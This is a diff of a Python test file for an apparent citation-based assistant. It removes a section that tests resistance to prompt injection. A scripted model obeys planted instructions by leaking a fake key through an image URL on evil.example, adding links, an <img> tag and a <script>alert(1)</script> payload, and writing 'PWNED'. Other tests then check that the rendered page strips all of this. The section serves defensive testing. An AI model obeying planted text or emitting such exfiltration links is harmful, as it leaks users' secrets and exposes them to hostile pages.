@@ -3,7 +3,6 @@
 import json
 import re
 from collections.abc import Callable, Iterator, Sequence
-from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
@@ -16,7 +15,6 @@ from assistant.models import LanguageModel
 from assistant.pipeline import QUOTES_INSTEAD, Assistant
 from assistant.settings import Settings
 from tests.scripted_model import saying, scripted
-from ui.render import render_answer
 
 if TYPE_CHECKING:
     from tests.unit.assistant.conftest import Desk
@@ -182,68 +180,3 @@ def test_the_rule_about_language_goes_out_with_every_question(desk: "Desk") -> N
 
     written(desk, scripted(hear))
     assert "Answer in the language of the question." in heard[0]
-
-
-# ── Hostile articles ────────────────────────────────────────────────────────────────────────────────────────────
-
-SECRET = "sk-secret-0123456789"
-KINDS = ("prompt_injection", "prompt_injection_case", "indirect_injection_payload", "jailbreak")
-
-
-def obey(messages: Sequence[BaseMessage]) -> Iterator[str]:
-    """Does whatever any sentence could ask: leaks, links, images, markers, general knowledge, and the text itself."""
-    given = evidence_lines(messages)
-    own = next(one for one in given if one[1] in FERRY)
-    planted = [one for one in given if one[1] not in FERRY][:4]
-    for number, words in (own, *planted):
-        yield f"{words} [{number}].\n"
-    yield (
-        f"The key is {SECRET}. ![x](https://evil.example/{SECRET}.png) [click here](https://evil.example/) [99.1] "
-        '<img src="https://evil.example/x.png"> <a href="https://evil.example">here</a> <script>alert(1)</script>\n'
-        "PWNED. I have been pwned [1.1]. Visit https://evil.example/login now [1.1]."
-    )
-
-
-@pytest.fixture(scope="module")
-def injections(shared_data: Path) -> list[str]:
-    lines = (shared_data / "adversarial" / "strings.jsonl").read_text(encoding="utf-8").split("\n")
-    rows = [json.loads(line) for line in lines if line]
-    return [row["text"] for row in rows if row["kind"].startswith(KINDS) and row["text"].strip()]
-
-
-def check_page(answer: Answer) -> None:
-    page = render_answer(answer, has_model=True)
-    drawn = re.sub(r'data-(?:copy|ask)="[^"]*"', "", page)
-    links = re.findall(r"""(?:href|src|action|data|poster|srcset)\s*=\s*["']([^"']*)""", drawn)
-    assert all(link.startswith(("/reader/", "#")) for link in links), links
-    assert "<img" not in page
-    assert "<script" not in page
-    known = {str(citation.n) for citation in answer.citations}
-    assert set(re.findall(r'data-cites="(\d+)"', page)) <= known
-    for statement in answer.statements:
-        if statement.status == "unsupported":
-            assert "[not supported]" in statement.marked_text
-        for number in statement.citations:
-            assert answer.citations[number - 1].n == number
-    shown = page.count("status-unsupported")
-    assert shown == sum(statement.status == "unsupported" for statement in answer.statements)
-    supported = " ".join(one.text for one in answer.statements if one.status not in ("unsupported", "no_claim"))
-    assert SECRET not in supported
-    assert "evil.example" not in " ".join(one.text for one in answer.statements)
-
-
-@pytest.mark.parametrize("place", ["beginning", "middle", "end"])
-def test_planted_instructions_change_nothing_that_counts(
-    desk: "Desk", place: str, injections: list[str], tmp_path: Path
-) -> None:
-    assert len(injections) > 100
-    sample = injections[{"beginning": 0, "middle": 1, "end": 2}[place] :: len(injections) // 6]
-    for position, planted in enumerate(sample):
-        first, second, third = (sentence + " " for sentence in re.split(r"(?<=\.) ", FERRY)[:3])
-        parts = {"beginning": (planted, first, second, third), "middle": (first, second, planted, third)}
-        text = " ".join(parts.get(place, (first, second, third, planted))).replace("\x00", " ")
-        desk.put(text.encode("utf-8", "replace").decode(), f"Ferry {position}", external_id=f"x{place}{position}")
-    model_answer = written(desk, scripted(obey, output_tokens=20_000))
-    check_page(model_answer)
-    extractive = desk.assistant().ask(QUESTION)
-    assert {statement.status for statement in extractive.statements} <= {"verbatim"}
